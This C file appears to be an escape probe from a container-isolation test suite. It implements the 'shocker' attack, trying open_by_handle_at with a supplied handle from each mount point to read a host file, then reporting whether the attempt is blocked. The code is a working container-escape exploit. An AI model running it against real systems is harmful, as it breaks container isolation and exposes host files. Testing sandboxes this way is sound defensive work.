// Opens a file of the host by its handle, which is valid on the whole file system (the "shocker"
// escape). A directory on the same file system is needed to start from: every mount is tried.
// argv: HANDLE_TYPE HANDLE_HEX SECRET
#include "payload.h"

static struct {
  unsigned bytes;
  int type;
  unsigned char data[128];
} handle;

static int error_ = ENOENT;

static void try_from(int mount_fd, const char* where, const char* secret) {
  if (mount_fd < 0) return;
  int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY);
  if (fd < 0) {
    error_ = errno == ESTALE || errno == EINVAL ? ENOENT : errno;
    return;
  }
  if (fd_holds(fd, secret) == 1) succeeded("opened the host's file from %s", where);
}

static void attack(int argc, char** argv) {
  handle.type = atoi(need(argc, argv, 1));
  const char* hex = need(argc, argv, 2);
  const char* secret = need(argc, argv, 3);
  for (; hex[0] && hex[1] && handle.bytes < sizeof handle.data; hex += 2) {
    unsigned byte;
    sscanf(hex, "%2x", &byte);
    handle.data[handle.bytes++] = (unsigned char)byte;
  }
  try_from(open("/", O_RDONLY | O_DIRECTORY), "/", secret);
  FILE* mounts = fopen("/proc/self/mountinfo", "r");
  if (!mounts) inconclusive("mountinfo: %s", strerror(errno));
  for (char line[8192]; fgets(line, sizeof line, mounts);) {
    char at[4096];
    if (sscanf(line, "%*d %*d %*s %*s %4095s", at) != 1) continue;
    // Opening anything but a directory or a regular file could act on a device.
    struct stat st;
    if (stat(at, &st) || !(S_ISDIR(st.st_mode) || S_ISREG(st.st_mode))) continue;
    int fd = open(at, O_RDONLY | O_NONBLOCK);
    try_from(fd, at, secret);
    if (fd >= 0) close(fd);
  }
  blocked(error_);
}
